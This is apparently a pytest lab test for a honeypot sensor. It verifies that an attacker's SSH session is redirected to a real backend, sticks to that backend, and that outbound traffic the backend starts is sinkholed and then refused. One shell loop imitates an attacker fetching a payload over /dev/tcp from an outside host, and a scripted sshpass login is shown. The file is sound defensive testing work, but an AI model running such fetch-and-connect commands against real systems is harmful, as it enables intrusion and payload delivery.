"""A real high-interaction backend behind a virtual host: packet-level redirect, stickiness, containment.

The attacker's real ssh client (sshpass) logs in on a virtual host's port 22, which the
settings redirect to a backend running a real OpenSSH server; the backend sees the attacker's
own address; a second connection, to another virtual host planned on another backend, lands on
the same backend; what the backend starts itself is sinkholed up to its limit, then refused.
"""

from __future__ import annotations

import json
import time

import pytest

from dynapot.lab.backend import high_interaction_backend
from dynapot.lab.sensor import running_sensor

pytestmark = pytest.mark.lab

VH1, VH2 = "198.18.0.110", "198.18.0.111"
OUTSIDE = "198.19.0.80"  # nobody: a backend's connection there must never leave the sensor
LIMIT = 2
WAIT = 30.0  # seconds to wait for the sensor's events to be stored


def config(first: str, second: str) -> str:
    return (
        "\n".join(
            [
                "create lin",
                'set lin personality "Linux 5.4"',
                "set lin default tcp action reset",
                f"bind {VH1} lin",
                f"add {VH1} tcp port 22 proxy {first}:22",
                f"bind {VH2} lin",
                f"add {VH2} tcp port 22 proxy {second}:22",
            ]
        )
        + "\n"
    )


def settings_file(path, backends) -> str:
    lines = ["[redirect]", 'mode = "packet"', "sticky_seconds = 600", f"outbound_per_hour = {LIMIT}", ""]
    for b in backends:
        entry = b.settings()
        lines += [
            "[[backends]]",
            f'name = "{entry["name"]}"',
            f'address = "{entry["address"]}"',
            'os = "Linux"',
            "ports = [22]",
            f'mac = "{entry["mac"]}"',
            "",
        ]
    path.write_text("\n".join(lines))
    return str(path)


def ssh(lab, backend, target: str, command: str):
    argv = [
        "sshpass", "-p", backend.password, "ssh", "-tt",
        "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
        "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
        "-o", "ConnectTimeout=10", "-o", "LogLevel=ERROR",
        f"{backend.user}@{target}", command,
    ]  # fmt: skip
    return lab.exec(lab.attacker, argv, timeout=60)


def events_until(sensor, kind: str, count: int) -> list[dict]:
    deadline = time.monotonic() + WAIT
    while len(found := sensor.events(kind)) < count and time.monotonic() < deadline:
        time.sleep(0.2)
    return found


def test_an_attacker_lands_on_a_real_backend_with_its_own_address_and_stays_there(lab, tmp_path):
    with (
        high_interaction_backend(lab, "hi1", 52) as hi1,
        high_interaction_backend(lab, "hi2", 53, password=hi1.password) as hi2,
    ):
        assert hi1.user == hi2.user
        toml = settings_file(tmp_path / "settings.toml", [hi1, hi2])
        with running_sensor(
            lab, config(str(hi1.host.ip), str(hi2.host.ip)), tmp_path, extra_args=("--settings", toml)
        ) as sensor:
            first = ssh(lab, hi1, VH1, "cat ~/backend; who; echo SSH=$SSH_CONNECTION; uname -s")
            assert first.returncode == 0, first.stdout + first.stderr
            out = first.stdout.replace("\r", "")
            assert out.splitlines()[0] == "hi1"
            assert f"({lab.attacker.ip})" in out  # `who` on the backend names the attacker
            assert f"SSH={lab.attacker.ip} " in out  # the connection comes from the attacker itself
            # VH2 is planned on hi2; the attacker stuck to hi1 lands there again.
            second = ssh(lab, hi1, VH2, "cat ~/backend")
            assert second.returncode == 0, second.stdout + second.stderr
            assert second.stdout.replace("\r", "").splitlines()[0] == "hi1"
            # What the backend starts itself: sinkholed up to the limit (the request kept), then refused.
            request = r"printf 'GET /payload HTTP/1.0\r\n\r\n'"
            loop = (
                f"for i in $(seq {LIMIT + 1}); do "
                f"if ( {request} > /dev/tcp/{OUTSIDE}/80 ) 2>/dev/null; "
                "then echo CONNECTED; else echo REFUSED; fi; "
                "done"
            )
            third = ssh(lab, hi1, VH1, loop)
            lines = third.stdout.replace("\r", "").split()
            assert lines == ["CONNECTED"] * LIMIT + ["REFUSED"], third.stdout + third.stderr
            redirects = events_until(sensor, "redirect", 3)
            outbound = events_until(sensor, "outbound", LIMIT + 1)
            captured = events_until(sensor, "outbound-data", LIMIT)
    assert [(e["src_ip"], e["dst_ip"], json.loads(e["data"])["backend"]) for e in redirects] == [
        (str(lab.attacker.ip), VH1, "hi1"),
        (str(lab.attacker.ip), VH2, "hi1"),
        (str(lab.attacker.ip), VH1, "hi1"),
    ]
    assert [json.loads(e["data"])["sticky"] for e in redirects] == [False, True, True]
    assert [e["detail"] for e in outbound] == ["sinkholed"] * LIMIT + ["refused"]
    assert {(e["src_ip"], e["dst_ip"], e["dst_port"]) for e in outbound} == {(str(hi1.host.ip), OUTSIDE, 80)}
    assert len(captured) == LIMIT
    assert all("GET /payload HTTP/1.0" in json.loads(e["data"])["excerpt"] for e in captured)
